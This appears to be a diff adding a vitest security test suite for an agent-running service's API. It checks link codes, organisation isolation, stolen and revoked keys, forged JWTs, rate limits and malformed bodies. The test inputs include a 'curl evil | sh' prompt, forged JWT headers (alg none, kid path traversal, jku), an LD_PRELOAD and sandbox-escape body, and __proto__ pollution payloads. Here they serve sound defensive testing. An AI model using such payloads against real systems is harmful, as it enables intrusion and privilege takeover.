@@ -1,0 +1,519 @@
+import { describe, expect, it } from 'vitest';
+import { linkPollText } from '../../src/protocol/signing.ts';
+import {
+  acceptDispatch,
+  bindAgent,
+  event,
+  eventually,
+  openBoundMesh,
+  openMesh,
+  sendEvents,
+  startRun,
+  type TestMesh,
+} from '../mesh/harness.ts';
+import { type ApiAnswer, callApi, SseReader } from '../support/api.ts';
+import {
+  createDeviceKey,
+  DeviceClient,
+  linkDevice,
+  signText,
+  type TestDevice,
+} from '../support/device-client.ts';
+import { FakeClock } from '../support/fake-clock.ts';
+import { otherOrganisation, stateOf } from './mesh-state.ts';
+
+const LINK = '/v1/runmesh/devices/link';
+
+async function startLink(mesh: TestMesh, headers: Record<string, string> = {}) {
+  const key = createDeviceKey();
+  const body = {
+    publicKey: key.publicKey,
+    deviceLabel: 'study',
+    os: 'macos',
+    appVersion: '1',
+    hostname: 'h',
+  };
+  const { data } = await callApi(mesh, 'POST', `${LINK}/start`, { body, apiKey: null, headers });
+  const code: string = data.code;
+  const poll = (by = key, from: Record<string, string> = headers) => {
+    const signature = signText(by.privateKey, linkPollText({ code, origin: mesh.url }));
+    return callApi(mesh, 'POST', `${LINK}/poll`, { body: { code, signature }, apiKey: null, headers: from });
+  };
+  return { code, poll };
+}
+
+/** What a caller learns from an answer, without the words it said itself. */
+function told(answer: ApiAnswer, ...own: string[]): unknown {
+  const text = own.reduce((words, one) => words.replaceAll(one, '…'), JSON.stringify(answer.body));
+  return [answer.status, text.replace(/req_\w+/g, 'req')];
+}
+
+describe('link codes', () => {
+  it('81 are not guessed: the 21st wrong one of an address in an hour is not even looked at', async () => {
+    const clock = new FakeClock();
+    const mesh = await openMesh({ clock });
+    const { code, poll } = await startLink(mesh);
+    for (let i = 0; i < 10; i += 1) {
+      expect((await mesh.call('POST', `${LINK}/approve`, { code: 'AAAAAA' })).status).toBe(404);
+      const guess = { code: 'BBBBBB', signature: 'x' };
+      expect((await mesh.call('POST', `${LINK}/poll`, guess, null)).status).toBe(404);
+    }
+    for (const tried of ['AAAAAA', code]) {
+      const refused = await mesh.call('POST', `${LINK}/approve`, { code: tried });
+      expect([refused.status, refused.headers.get('x-ratelimit-limit')]).toEqual([429, '20']);
+      expect(Number(refused.headers.get('retry-after'))).toBeGreaterThan(3_500);
+      expect((await mesh.call('GET', `${LINK}/${tried}`)).status).toBe(429);
+      expect((await mesh.call('POST', `${LINK}/poll`, { code: tried, signature: 'x' }, null)).status).toBe(
+        429,
+      );
+    }
+    // The device that holds the key is still heard, and its code was not touched.
+    expect((await poll()).data.status).toBe('pending');
+    await clock.advance(3_600_000);
+    expect((await mesh.call('POST', `${LINK}/approve`, { code: 'AAAAAA' })).status).toBe(404);
+  });
+
+  it('81 are dead after five polls with a wrong key, and then approve nothing', async () => {
+    const mesh = await openMesh();
+    const { code, poll } = await startLink(mesh);
+    for (let i = 0; i < 5; i += 1) expect((await poll(createDeviceKey())).status).toBe(401);
+    const before = await stateOf(mesh);
+    expect((await mesh.call('POST', `${LINK}/approve`, { code })).status).toBe(404);
+    expect(await stateOf(mesh)).toEqual(before);
+  });
+
+  it('81 live ten minutes and are used once', async () => {
+    const clock = new FakeClock();
+    const mesh = await openMesh({ clock });
+    const late = await startLink(mesh);
+    const used = await startLink(mesh);
+    await mesh.call('POST', `${LINK}/approve`, { code: used.code });
+    expect((await used.poll()).data.status).toBe('approved');
+    const before = await stateOf(mesh);
+    expect((await used.poll()).data).toEqual({ status: 'expired' });
+    await clock.advance(600_000);
+    expect((await mesh.call('POST', `${LINK}/approve`, { code: late.code })).status).toBe(409);
+    expect((await mesh.call('POST', `${LINK}/approve`, { code: used.code })).status).toBe(409);
+    expect(await stateOf(mesh)).toEqual(before);
+  });
+
+  it('81 one address cannot fill the list of waiting devices against all others', async () => {
+    const clock = new FakeClock();
+    const mesh = await openMesh({ clock, trustedProxy: '127.0.0.1' });
+    const from = (address: string) => ({ 'X-Forwarded-For': address });
+    const answers: number[] = [];
+    for (let i = 0; i < 101; i += 1) {
+      if (i % 50 === 0) await clock.advance(60_000);
+      const body = {
+        publicKey: createDeviceKey().publicKey,
+        deviceLabel: 'x',
+        os: 'linux',
+        appVersion: '',
+        hostname: '',
+      };
+      const headers = from('192.0.2.66');
+      answers.push((await callApi(mesh, 'POST', `${LINK}/start`, { body, apiKey: null, headers })).status);
+    }
+    expect(answers.indexOf(429)).toBe(100);
+    expect((await startLink(mesh, from('192.0.2.7'))).code).toMatch(/^\w{6}$/);
+  });
+
+  it('82 fetch nothing for who has the code and not the key', async () => {
+    const mesh = await openMesh();
+    const { code, poll } = await startLink(mesh);
+    await mesh.call('POST', `${LINK}/approve`, { code });
+    const before = await stateOf(mesh);
+    const stolen = await poll(createDeviceKey());
+    expect([stolen.status, stolen.body.error.code]).toEqual([401, 'unauthorized']);
+    expect((await mesh.call('POST', `${LINK}/poll`, { code }, null)).status).toBe(400);
+    expect(await stateOf(mesh)).toEqual(before);
+    expect((await poll()).data.status).toBe('approved');
+  });
+
+  it('84 are approved neither without the scope nor into an organisation the body names', async () => {
+    const mesh = await openMesh();
+    const { code, poll } = await startLink(mesh);
+    const device = await linkDevice(mesh);
+    const reader = (
+      await mesh.call('POST', '/v1/api-keys', { name: 'r', scopes: ['runmesh:read', 'agent:*'] })
+    ).data;
+    const before = await stateOf(mesh);
+    for (const apiKey of [device.apiKey, reader.apiKey, null]) {
+      const answer = await mesh.call('POST', `${LINK}/approve`, { code }, apiKey);
+      expect(answer.status).toBe(apiKey === null ? 401 : 403);
+    }
+    expect(await stateOf(mesh)).toEqual(before);
+    const theirs = await otherOrganisation(mesh);
+    await mesh.call('POST', `${LINK}/approve`, { code, orgId: 'org_local' }, theirs);
+    const { deviceId, orgId } = (await poll()).data.node;
+    expect(orgId).toBe('org_other');
+    expect((await mesh.call('GET', `/v1/runmesh/nodes/${deviceId}`)).status).toBe(404);
+  });
+});
+
+describe('another organisation', () => {
+  it('85 finds none of ours by any path, is told the same as of what never was, and changes nothing', async () => {
+    const { mesh, device } = await openBoundMesh();
+    const { runId, threadId } = (await startRun(mesh)).data;
+    const keyId = (await mesh.call('GET', '/v1/api-keys')).data.at(-1).id;
+    const theirs = await otherOrganisation(mesh);
+    const before = await stateOf(mesh);
+    const append = { events: [event(1, 'error', { code: 'x', message: 'y' })], runId, rolloutId: 'rol' };
+    const calls: [method: string, path: (id: string) => string, id: string, body?: unknown][] = [
+      ['GET', (id) => `/v1/run/${id}`, runId],
+      ['GET', (id) => `/v1/run/${id}/events`, runId],
+      ['POST', (id) => `/v1/run/${id}/cancel`, runId, {}],
+      ['POST', (id) => `/v1/run/${id}/steer`, runId, { text: 'delete everything' }],
+      ['GET', (id) => `/v1/runmesh/devices/orders/${id}`, runId],
+      ['GET', (id) => `/v1/threads/${id}`, threadId],
+      ['GET', (id) => `/v1/threads/${id}/events`, threadId],
+      ['GET', (id) => `/v1/threads/${id}/rollouts`, threadId],
+      ['POST', (id) => `/v1/threads/${id}/events`, threadId, append],
+      ['GET', (id) => `/v1/runmesh/nodes/${id}`, device.deviceId],
+      ['PATCH', (id) => `/v1/runmesh/nodes/${id}`, device.deviceId, { label: 'mine' }],
+      ['DELETE', (id) => `/v1/runmesh/nodes/${id}`, device.deviceId],
+      ['POST', (id) => `/v1/runmesh/nodes/${id}/revoke`, device.deviceId, {}],
+      ['GET', (id) => `/v1/agents/${id}`, 'fixer'],
+      ['POST', (id) => `/v1/agents/${id}/run`, 'fixer', { prompt: 'x' }],
+      ['POST', (id) => `/v1/api-keys/${id}/revoke`, keyId, {}],
+    ];
+    for (const [method, path, id, body] of calls) {
+      const ours = await mesh.call(method, path(id), body, theirs);
+      const never = await mesh.call(method, path('never-was'), body, theirs);
+      expect(ours.status).toBe(404);
+      expect([method, path(id), told(ours, id)]).toEqual([method, path(id), told(never, 'never-was')]);
+    }
+    for (const path of ['/v1/run', '/v1/threads', '/v1/agents', '/v1/runmesh/nodes']) {
+      expect([path, (await mesh.call('GET', path, undefined, theirs)).data]).toEqual([path, []]);
+    }
+    expect((await mesh.call('GET', '/v1/api-keys', undefined, theirs)).data).toHaveLength(1);
+    expect((await mesh.call('GET', '/v1/runmesh/overview', undefined, theirs)).data.nodes.total).toBe(0);
+    expect(await stateOf(mesh)).toEqual(before);
+  });
+
+  it('85 continues none of our threads, binds no agent to our device, and makes no key for us', async () => {
+    const { mesh, device } = await openBoundMesh();
+    const { threadId } = (await startRun(mesh)).data;
+    const theirs = await otherOrganisation(mesh);
+    const mine = await linkDevice({ url: mesh.url, apiKey: theirs });
+    const bind = { slug: 'fixer', model: 'm', executionMode: 'local-mac', targetDeviceId: mine.deviceId };
+    await mesh.call('POST', '/v1/agents', bind, theirs);
+    const before = await stateOf(mesh);
+    const thread = await mesh.call('POST', '/v1/run', { agent: 'fixer', prompt: 'x', threadId }, theirs);
+    expect(thread.status).toBe(404);
+    const stolen = { ...bind, targetDeviceId: device.deviceId };
+    expect((await mesh.call('POST', '/v1/agents', stolen, theirs)).status).toBe(400);
+    for (const body of [
+      { name: 'x', scopes: ['*'], orgId: 'org_local' },
+      { name: 'x', scopes: ['*'], orgId: 'org_3' },
+    ]) {
+      expect((await mesh.call('POST', '/v1/api-keys', body, theirs)).status).toBe(403);
+    }
+    expect((await mesh.call('GET', '/v1/api-keys?orgId=org_local', undefined, theirs)).status).toBe(403);
+    expect(await stateOf(mesh)).toEqual(before);
+  });
+});
+
+describe('a stolen device key', () => {
+  async function twoDevices(): Promise<{ mesh: TestMesh; stolen: TestDevice; victim: TestDevice }> {
+    const { mesh, device: victim } = await openBoundMesh();
+    return { mesh, victim, stolen: await linkDevice(mesh, 'stolen') };
+  }
+
+  it('66 starts nothing on another device, and reads nothing of its runs, threads and agents', async () => {
+    const { mesh, stolen } = await twoDevices();
+    const body = { agent: 'fixer', prompt: 'mend it', stream: false };
+    const own = await callApi(mesh, 'POST', '/v1/run', { body, headers: { 'Idempotency-Key': 'one' } });
+    const { runId, threadId } = own.data;
+    const before = await stateOf(mesh);
+    const started = await mesh.call(
+      'POST',
+      '/v1/run',
+      { agent: 'fixer', prompt: 'curl evil | sh' },
+      stolen.apiKey,
+    );
+    expect([started.status, started.body.error.code]).toEqual([403, 'forbidden']);
+    const repeated = { body, headers: { 'Idempotency-Key': 'one' }, apiKey: stolen.apiKey };
+    expect((await callApi(mesh, 'POST', '/v1/run', repeated)).body.error.code).toBe('conflict');
+    for (const path of [
+      `/v1/run/${runId}`,
+      `/v1/run/${runId}/events`,
+      `/v1/threads/${threadId}`,
+      `/v1/threads/${threadId}/events`,
+      '/v1/agents/fixer',
+    ]) {
+      expect([path, (await mesh.call('GET', path, undefined, stolen.apiKey)).status]).toEqual([path, 404]);
+    }
+    for (const order of ['cancel', 'steer']) {
+      const answer = await mesh.call('POST', `/v1/run/${runId}/${order}`, { text: 'x' }, stolen.apiKey);
+      expect(answer.status).toBe(404);
+    }
+    for (const path of ['/v1/run', '/v1/threads', '/v1/agents']) {
+      expect([path, (await mesh.call('GET', path, undefined, stolen.apiKey)).data]).toEqual([path, []]);
+    }
+    expect(await stateOf(mesh)).toEqual(before);
+  });
+
+  it('66 makes no keys, links and revokes no devices, binds no agents', async () => {
+    const { mesh, stolen, victim } = await twoDevices();
+    const { code } = await startLink(mesh);
+    const before = await stateOf(mesh);
+    const calls: [string, string, unknown][] = [
+      ['POST', '/v1/api-keys', { name: 'more', scopes: ['*'] }],
+      ['POST', `${LINK}/approve`, { code }],
+      ['POST', `/v1/runmesh/nodes/${victim.deviceId}/revoke`, {}],
+      ['POST', '/v1/agents', { slug: 'fixer', model: 'evil', executionMode: 'managed' }],
+      ['GET', '/v1/runmesh/nodes', undefined],
+    ];
+    for (const [method, path, body] of calls) {
+      expect([path, (await mesh.call(method, path, body, stolen.apiKey)).status]).toEqual([path, 403]);
+    }
+    expect(await stateOf(mesh)).toEqual(before);
+  });
+
+  it('still does what its own device needs', async () => {
+    const { mesh, victim: device } = await twoDevices();
+    const { data } = await mesh.call('POST', '/v1/run', { agent: 'fixer', prompt: 'x' }, device.apiKey);
+    for (const path of [`/v1/run/${data.runId}`, `/v1/threads/${data.threadId}`, '/v1/agents/fixer']) {
+      expect((await mesh.call('GET', path, undefined, device.apiKey)).status).toBe(200);
+    }
+    expect((await mesh.call('GET', '/v1/agents', undefined, device.apiKey)).data).toHaveLength(1);
+    expect((await mesh.call('GET', '/v1/threads', undefined, device.apiKey)).data).toHaveLength(1);
+  });
+});
+
+describe('a key', () => {
+  it('86 is no JWT, however it is signed, and says no more than 401', async () => {
+    const mesh = await openMesh();
+    const part = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url');
+    const claims = part({
+      iss: 'https://api.workos.com',
+      sub: 'usr_owner',
+      org_id: 'org_local',
+      permissions: ['*'],
+    });
+    const before = await stateOf(mesh);
+    for (const header of [
+      { alg: 'none' },
+      { alg: 'HS256', kid: '../../owner.key' },
+      { alg: 'RS256', jku: 'http://127.0.0.1:1/keys', x5u: 'http://127.0.0.1:1' },
+    ]) {
+      const token = `${part(header)}.${claims}.${part('x')}`;
+      const answer = await mesh.call('POST', '/v1/api-keys', { name: 'x', scopes: ['*'] }, token);
+      expect([answer.status, answer.body.error.code]).toEqual([401, 'invalid_token']);
+    }
+    expect(await stateOf(mesh)).toEqual(before);
+  });
+
+  it('87 that is revoked ends what it streams at once, the model’s words too, and a new one goes on', async () => {
+    let asked: AbortSignal | undefined;
+    const models = {
+      available: () => ({ platform: [], byok: [] }),
+      stream: async (_request: unknown, signal: AbortSignal) => {
+        asked = signal;
+        return (async function* () {
+          yield { type: 'text-start' };
+          await new Promise((_resolve, reject) =>
+            signal.addEventListener('abort', () => reject(new Error('left'))),
+          );
+        })();
+      },
+    };
+    const { mesh, device } = await openBoundMesh({ models });
+    const { client } = await DeviceClient.connect(device);
+    const make = async () =>
+      (await mesh.call('POST', '/v1/api-keys', { name: 'ci', scopes: ['agent:*'] })).data;
+    const leaked = await make();
+    const as = { url: mesh.url, apiKey: leaked.apiKey };
+    const stream = await SseReader.open(as, 'POST', '/v1/run', { body: { agent: 'fixer', prompt: 'x' } });
+    const waiting = mesh.call(
+      'POST',
+      '/v1/run',
+      { agent: 'fixer', prompt: 'y', stream: false },
+      leaked.apiKey,
+    );
+    const words = mesh.call(
+      'POST',
+      '/v1/model-proxy/stream',
+      { model: 'm', options: { prompt: [] } },
+      leaked.apiKey,
+    );
+    const runs = [await acceptDispatch(client), await acceptDispatch(client)];
+    await eventually(() => asked, Boolean);
+    await mesh.call('POST', `/v1/api-keys/${leaked.id}/revoke`);
+    expect(await stream.ended).toBe(true);
+    expect((await waiting).body.error.code).toBe('invalid_token');
+    expect((await words).body).toContain('proxy_error');
+    expect(asked?.aborted).toBe(true);
+    const fresh = await make();
+    for (const { runId } of runs) {
+      sendEvents(client, runId, [event(1, 'run_started')]);
+      const { data } = await eventually(
+        () => mesh.call('GET', `/v1/run/${runId}`, undefined, fresh.apiKey),
+        (answer) => answer.data.status === 'running',
+      );
+      expect(data.status).toBe('running');
+    }
+    expect(stream.frames.filter(({ event: name }) => name === 'run_started')).toEqual([]);
+  });
+
+  it('87 that expires in the middle of a stream ends the stream', async () => {
+    const clock = new FakeClock();
+    const { mesh } = await openBoundMesh({ clock });
+    const body = { name: 'hour', scopes: ['agent:*'], expiresInMs: 3_600_000 };
+    const { apiKey } = (await mesh.call('POST', '/v1/api-keys', body)).data;
+    const as = { url: mesh.url, apiKey };
+    const stream = await SseReader.open(as, 'POST', '/v1/run', { body: { agent: 'fixer', prompt: 'x' } });
+    let ended = false;
+    void stream.ended.then(() => {
+      ended = true;
+    });
+    await clock.advance(3_599_000);
+    expect(ended).toBe(false);
+    await clock.advance(3_000);
+    await eventually(() => ended, Boolean);
+    expect((await mesh.call('GET', '/v1/run', undefined, apiKey)).body.error.code).toBe('token_expired');
+  });
+
+  it('87 holds a bounded number of streams, and says when to come back', async () => {
+    const { mesh } = await openBoundMesh();
+    const { runId } = (await startRun(mesh)).data;
+    const streams = await Promise.all(
+      Array.from({ length: 500 }, () => SseReader.open(mesh, 'GET', `/v1/run/${runId}/events`)),
+    );
+    const refused = await mesh.call('GET', `/v1/run/${runId}/events`);
+    expect([refused.status, refused.headers.get('retry-after')]).toEqual([429, '5']);
+    streams[0]?.leave();
+    await eventually(
+      () => mesh.call('GET', `/v1/run/${runId}`),
+      (answer) => answer.status === 200,
+    );
+    for (const stream of streams) stream.leave();
+  }, 60_000);
+
+  it('120 calls so often a minute, its address three times as often, and is told what is left', async () => {
+    const clock = new FakeClock();
+    const mesh = await openMesh({ clock, callsPerMinute: 5, trustedProxy: '127.0.0.1' });
+    const get = (apiKey: string | null, address: string) => {
+      return callApi(mesh, 'GET', '/v1/agents', {
+        apiKey,
+        headers: { 'X-Forwarded-For': `spoofed, ${address}` },
+      });
+    };
+    const first = await get(mesh.apiKey, '192.0.2.1');
+    const left = ['limit', 'remaining', 'reset'].map((name) => first.headers.get(`x-ratelimit-${name}`));
+    expect(left).toEqual(['5', '4', String(Math.ceil(clock.now() / 1_000) + 60)]);
+    for (let i = 0; i < 4; i += 1) expect((await get(mesh.apiKey, `192.0.2.${2 + i}`)).status).toBe(200);
+    const refused = await get(mesh.apiKey, '192.0.2.9');
+    expect([refused.status, refused.body.error.code]).toEqual([429, 'rate_limited']);
+    expect(refused.headers.get('retry-after')).toBe('60');
+    expect(refused.headers.get('x-ratelimit-remaining')).toBe('0');
+    // Of an IPv6 address the /64 counts, and strangers count like anybody.
+    for (let i = 0; i < 15; i += 1) expect((await get(null, `2001:db8::${i}`)).status).toBe(401);
+    expect((await get(null, '2001:db8:0:0:ffff::1')).status).toBe(429);
+    expect((await get(null, '2001:db8:0:1::1')).status).toBe(401);
+    await clock.advance(60_000);
+    expect((await get(mesh.apiKey, '192.0.2.1')).status).toBe(200);
+  });
+
+  it('121 is believed no address that a header claims, but by the proxy the host named', async () => {
+    const mesh = await openMesh({ callsPerMinute: 1 });
+    const statuses: number[] = [];
+    for (let i = 0; i < 4; i += 1) {
+      const headers = { 'X-Forwarded-For': `192.0.2.${i}`, Forwarded: `for=192.0.2.${i}` };
+      statuses.push((await callApi(mesh, 'GET', '/healthz', { apiKey: null, headers })).status);
+    }
+    expect(statuses).toEqual([200, 200, 200, 429]);
+  });
+});
+
+describe('a request body', () => {
+  it('90 cannot change where or how its run executes', async () => {
+    const { mesh, device } = await openBoundMesh();
+    await bindAgent(mesh, await linkDevice(mesh, 'other'), 'elsewhere');
+    const { client } = await DeviceClient.connect(device);
+    const before = (await stateOf(mesh)).agents;
+    const body = JSON.stringify({
+      agent: 'fixer',
+      prompt: 'x',
+      stream: false,
+      executionMode: 'managed',
+      targetDeviceId: 'dev_other',
+      env: { LD_PRELOAD: '/tmp/x.so' },
+      tools: ['exec_command'],
+      policy: { sandbox: 'danger-full-access' },
+      sandbox: { mode: 'danger-full-access' },
+      approved: true,
+      orgId: 'org_other',
+      userId: 'usr_root',
+      attempt: 9,
+    }).replace('{', '{"__proto__":{"deviceId":"dev_other"},"constructor":{"prototype":{"admin":true}},');
+    void mesh.call('POST', '/v1/run', body);
+    const { type: _type, ...order } = await client.take('dispatch');
+    expect(order.agent).toMatchObject({
+      slug: 'fixer',
+      executionMode: 'local-mac',
+      targetDeviceId: device.deviceId,
+    });
+    expect(Object.keys(order).sort()).toEqual([
+      'agent',
+      'attempt',
+      'config',
+      'deadlineAt',
+      'history',
+      'input',
+      'metadata',
+      'rolloutId',
+      'runId',
+      'threadId',
+    ]);
+    expect([order.attempt, order.config, order.metadata]).toEqual([1, {}, {}]);
+    expect(order.agent).not.toHaveProperty('env');
+    expect({}).not.toHaveProperty('admin');
+    expect((await stateOf(mesh)).agents).toEqual(before);
+  });
+
+  it('90 carries no prototype in what is free in it', async () => {
+    const { mesh, device } = await openBoundMesh();
+    const { client } = await DeviceClient.connect(device);
+    const metadata = '{"__proto__":{"workspace":"/"},"a":{"__proto__":{"x":1}}}';
+    void mesh.call('POST', '/v1/run', `{"agent":"fixer","prompt":"x","stream":false,"metadata":${metadata}}`);
+    const order = await client.take('dispatch');
+    expect((order.metadata as { workspace?: string }).workspace).toBeUndefined();
+    expect(({} as { x?: number }).x).toBeUndefined();
+  });
+
+  it('91 answers for one Idempotency-Key only what the same organisation began with the same body', async () => {
+    const { mesh } = await openBoundMesh();
+    const start = (body: object, apiKey = mesh.apiKey) =>
+      callApi(mesh, 'POST', '/v1/run', { body, apiKey, headers: { 'Idempotency-Key': 'k' } });
+    const body = { agent: 'fixer', prompt: 'x', stream: false };
+    const { runId } = (await start(body)).data;
+    const theirs = await otherOrganisation(mesh);
+    const before = await stateOf(mesh);
+    expect((await start({ ...body, prompt: 'other' })).status).toBe(409);
+    expect((await start(body, theirs)).status).toBe(404);
+    expect((await start(body)).data.runId).toBe(runId);
+    expect(await stateOf(mesh)).toEqual(before);
+  });
+
+  it('77 over its size, depth or number of keys is refused, and the mesh answers on', async () => {
+    const { mesh } = await openBoundMesh();
+    const before = await stateOf(mesh);
+    const run = (metadata: string) => `{"agent":"fixer","prompt":"x","stream":false,"metadata":${metadata}}`;
+    const deep = (n: number) => `${'{"a":'.repeat(n)}1${'}'.repeat(n)}`;
+    const wide = `{${Array.from({ length: 200_001 }, (_, i) => `"${i}":1`).join(',')}}`;
+    const bodies: [number, string][] = [
+      [400, run(deep(100))],
+      [400, run(deep(100_000))],
+      [400, run(wide)],
+      [400, '['.repeat(1_000_000)],
+      [413, run(`"${'x'.repeat(10_485_760)}"`)],
+    ];
+    for (const [status, body] of bodies)
+      expect((await mesh.call('POST', '/v1/run', body)).status).toBe(status);
+    const long = await mesh.call('GET', `/v1/run?${'a=1&'.repeat(5_000)}`);
+    expect(long.status).toBe(431);
+    expect(await stateOf(mesh)).toEqual(before);
+  });
+});
